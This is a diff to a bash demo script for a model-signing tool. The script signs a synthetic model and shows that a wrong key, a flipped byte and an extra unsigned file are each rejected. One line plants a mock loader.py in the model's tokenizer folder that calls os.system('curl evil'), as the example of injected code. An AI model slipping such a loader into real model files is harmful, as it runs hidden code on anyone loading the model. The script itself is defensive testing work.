@@ -1,6 +1,8 @@
 #!/usr/bin/env bash
-# demo.sh: set up, build and run the main job on an embedded default: a small demo model is
-# created and its manifest digest printed, exactly as `model_signing digest` would.
+# demo.sh: set up, build and run the main job on an embedded default. It creates a small demo
+# model, signs it, verifies it, then tampers with it in the ways that matter (a flipped byte, an
+# extra file, a wrong key) and shows that each is refused with a reason that names the file.
+# Everything is local and offline; the work directory is removed at the end.
 set -euo pipefail
 ROOT="$(cd "$(dirname "$0")/.." && pwd)"
 "$ROOT/scripts/setup.sh"
@@ -16,10 +18,59 @@ printf '{"model_max_length":128}\n' >"$MODEL/tokenizer/tokenizer_config.json"
 head -c $((64 << 20)) /dev/urandom >"$MODEL/model-00001-of-00002.safetensors"
 head -c $((48 << 20)) /dev/urandom >"$MODEL/model-00002-of-00002.safetensors"
 
-echo "== modelgate digest $MODEL"
+step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
+expect_fail() {
+  if "$@"; then
+    echo "demo: expected a failure, got success" >&2
+    exit 1
+  fi
+}
+
+step "a publisher's signing key (P-256) and a stranger's"
+openssl ecparam -name prime256v1 -genkey -noout -out "$WORK/publisher.key" 2>/dev/null
+openssl ec -in "$WORK/publisher.key" -pubout -out "$WORK/publisher.pub" 2>/dev/null
+openssl ecparam -name prime256v1 -genkey -noout -out "$WORK/stranger.key" 2>/dev/null
+openssl ec -in "$WORK/stranger.key" -pubout -out "$WORK/stranger.pub" 2>/dev/null
+echo "keys in $WORK"
+
+step "modelgate digest (root digest, as model_signing digest prints it)"
 "$MG" digest "$MODEL"
-echo "== the same model, sharded (100 MB shards), as a manifest"
-"$MG" digest "$MODEL" --shard-size 100000000 --json | head -c 1200; echo
-echo "== tamper one byte of a shard: the root digest changes"
+
+step "modelgate sign key: write model.sig inside the model (a Sigstore bundle, model_signing v1.0)"
+"$MG" sign key "$MODEL" --private-key "$WORK/publisher.key" --signature "$MODEL/model.sig"
+
+step "modelgate verify key: the untouched model verifies"
+"$MG" verify key "$MODEL" --signature "$MODEL/model.sig" --public-key "$WORK/publisher.pub"
+
+step "verify with a stranger's key: refused"
+expect_fail "$MG" verify key "$MODEL" --signature "$MODEL/model.sig" --public-key "$WORK/stranger.pub"
+
+step "flip one byte of a shard: refused, naming the file and both digests"
+cp "$MODEL/model-00002-of-00002.safetensors" "$WORK/shard.bak"
 printf 'X' | dd of="$MODEL/model-00002-of-00002.safetensors" bs=1 seek=12345 conv=notrunc status=none
-"$MG" digest "$MODEL"
+expect_fail "$MG" verify key "$MODEL" --signature "$MODEL/model.sig" --public-key "$WORK/publisher.pub"
+cp "$WORK/shard.bak" "$MODEL/model-00002-of-00002.safetensors"
+
+step "add an unsigned file: refused"
+echo "import os; os.system('curl evil')" >"$MODEL/tokenizer/loader.py"
+expect_fail "$MG" verify key "$MODEL" --signature "$MODEL/model.sig" --public-key "$WORK/publisher.pub"
+rm "$MODEL/tokenizer/loader.py"
+
+step "back to the signed bytes: verifies again"
+"$MG" verify key "$MODEL" --signature "$MODEL/model.sig" --public-key "$WORK/publisher.pub"
+
+step "sharded signature (16 MB shards) for parallel hashing of big files"
+"$MG" sign key "$MODEL" --private-key "$WORK/publisher.key" --signature "$MODEL/model.sig" --shard-size 16000000
+"$MG" verify key "$MODEL" --signature "$MODEL/model.sig" --public-key "$WORK/publisher.pub"
+
+UPSTREAM="$ROOT/../shared/vectors/model_signing/scripts/tests/v1.1.0-sigstore"
+if [ -d "$UPSTREAM" ]; then
+  step "keyless: a model signed upstream with Sigstore, verified offline against the embedded root"
+  "$MG" verify sigstore "$UPSTREAM" --signature "$UPSTREAM/model.sig" \
+    --identity stefanb@us.ibm.com --identity-provider https://sigstore.verify.ibm.com/oauth2
+  step "the same model claimed by another identity: refused"
+  expect_fail "$MG" verify sigstore "$UPSTREAM" --signature "$UPSTREAM/model.sig" \
+    --identity mallory@example.com --identity-provider https://sigstore.verify.ibm.com/oauth2
+fi
+
+step "done: the admission webhook (modelgate serve) will apply these checks at kubectl apply time"
